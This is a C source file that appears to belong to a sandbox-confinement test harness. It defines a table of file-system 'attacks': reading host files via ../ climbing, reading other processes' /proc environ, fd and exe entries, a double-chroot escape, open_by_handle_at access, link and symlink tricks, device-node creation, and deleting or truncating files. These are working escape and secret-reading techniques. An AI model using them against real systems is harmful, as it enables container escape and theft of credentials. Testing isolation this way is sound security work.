/* Reaching files of the host. */
#include "attack.h"
#include <dirent.h>
#include <sys/xattr.h>

static int read_file(char **a) { return holds(open(a[0], O_RDONLY), a[1]); }
static int open_to_read(char **a) { return WENT(open(a[0], O_RDONLY | O_NONBLOCK)); }
static int open_to_write(char **a) { return WENT(open(a[0], O_WRONLY)); }
static int make_file(char **a) { return WENT(open(a[0], O_WRONLY | O_CREAT | O_EXCL, 0666)); }
static int make_folder(char **a) { return WENT(mkdir(a[0], 0777)); }

/* Far enough up to be at any root, then down again. */
static int climb(char **a)
{
    char path[4096] = "";
    for (int i = 0; i < 64; i++)
        strcat(path, "../");
    strcat(path, a[0] + 1);
    return holds(open(path, O_RDONLY), a[1]);
}

static int through_proc(char **a)
{
    char path[4096];
    snprintf(path, sizeof path, "/proc/%d/%s%s", process(a[0]), a[1], a[2]);
    return holds(open(path, O_RDONLY), a[3]);
}

static int environment_of(char **a)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", process(a[0]));
    return holds(open(path, O_RDONLY), a[1]);
}

static int own_environment(char **a) { errno = ENOENT; return getenv(a[0]) != NULL; }

/* Opens what another process has open, or runs. */
static int descriptor_of(char **a)
{
    char folder[64];
    snprintf(folder, sizeof folder, "/proc/%d/fd", process(a[0]));
    DIR *list = opendir(folder);
    if (!list)
        return 0;
    for (struct dirent *entry; (entry = readdir(list));) {
        int file = openat(dirfd(list), entry->d_name, O_RDONLY | O_NONBLOCK);
        if (entry->d_name[0] != '.' && file >= 0)
            return 1;
    }
    return 0;
}

static int program_of(char **a)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", process(a[0]));
    return WENT(open(path, O_RDONLY));
}

static int inherited(char **a)
{
    for (int file = 3; file < 512; file++)
        if (lseek(file, 0, SEEK_SET) == 0 && holds(file, a[0]))
            return 1;
    errno = EBADF;
    return 0;
}

/* Out of a chroot by a second one. */
static int chroot_twice(char **a)
{
    mkdir(a[0], 0777);
    if (chroot(a[0]) < 0)
        return 0;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return 0;
    return chroot(".") == 0 && holds(open(a[1], O_RDONLY), a[2]);
}

static struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle;

/* Prints the kernel's handle of a file, for `by_handle`. */
static int handle_of(char **a)
{
    int mount;
    handle.head.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, a[0], &handle.head, &mount, 0) < 0)
        return 0;
    printf("%d ", handle.head.handle_type);
    for (unsigned i = 0; i < handle.head.handle_bytes; i++)
        printf("%02x", handle.head.f_handle[i]);
    printf("\n");
    return 1;
}

/* Opens a file of the same file system as a folder that is in reach. */
static int by_handle(char **a)
{
    int folder = open(a[0], O_RDONLY | O_DIRECTORY);
    handle.head.handle_type = atoi(a[1]);
    for (const char *digit = a[2]; digit[0] && digit[1]; digit += 2) {
        unsigned byte;
        sscanf(digit, "%2x", &byte);
        handle.head.f_handle[handle.head.handle_bytes++] = byte;
    }
    return holds(open_by_handle_at(folder, &handle.head, O_RDONLY), a[3]);
}

static int link_to(char **a) { return WENT(link(a[0], a[1])); }
static int symlink_and_read(char **a) { return symlink(a[0], a[1]) == 0 && holds(open(a[1], O_RDONLY), a[2]); }
static int remove_file(char **a) { return WENT(unlink(a[0])); }
static int move_file(char **a) { return WENT(rename(a[0], a[1])); }
static int set_times(char **a) { return WENT(utimensat(AT_FDCWD, a[0], NULL, 0)); }
static int append(char **a)
{
    int file = open(a[0], O_WRONLY | O_APPEND);
    return file >= 0 && write(file, "x", 1) == 1;
}
static int cut(char **a) { return WENT(truncate(a[0], 0)); }

static int node(char **a)
{
    mode_t kind = a[1][0] == 'b' ? S_IFBLK : S_IFCHR;
    return mknod(a[0], kind | 0666, ((unsigned)atoi(a[2]) << 8) | atoi(a[3])) == 0;
}

const struct attack file_attacks[] = {
    {"read", read_file}, {"open_to_read", open_to_read}, {"open_to_write", open_to_write}, {"make_file", make_file},
    {"make_folder", make_folder}, {"climb", climb}, {"through_proc", through_proc}, {"environment_of", environment_of},
    {"own_environment", own_environment}, {"descriptor_of", descriptor_of}, {"program_of", program_of}, {"inherited", inherited},
    {"chroot_twice", chroot_twice}, {"handle_of", handle_of}, {"by_handle", by_handle}, {"link", link_to},
    {"symlink_and_read", symlink_and_read}, {"remove", remove_file}, {"move", move_file}, {"set_times", set_times},
    {"append", append}, {"cut", cut}, {"node", node}, {NULL, NULL}};
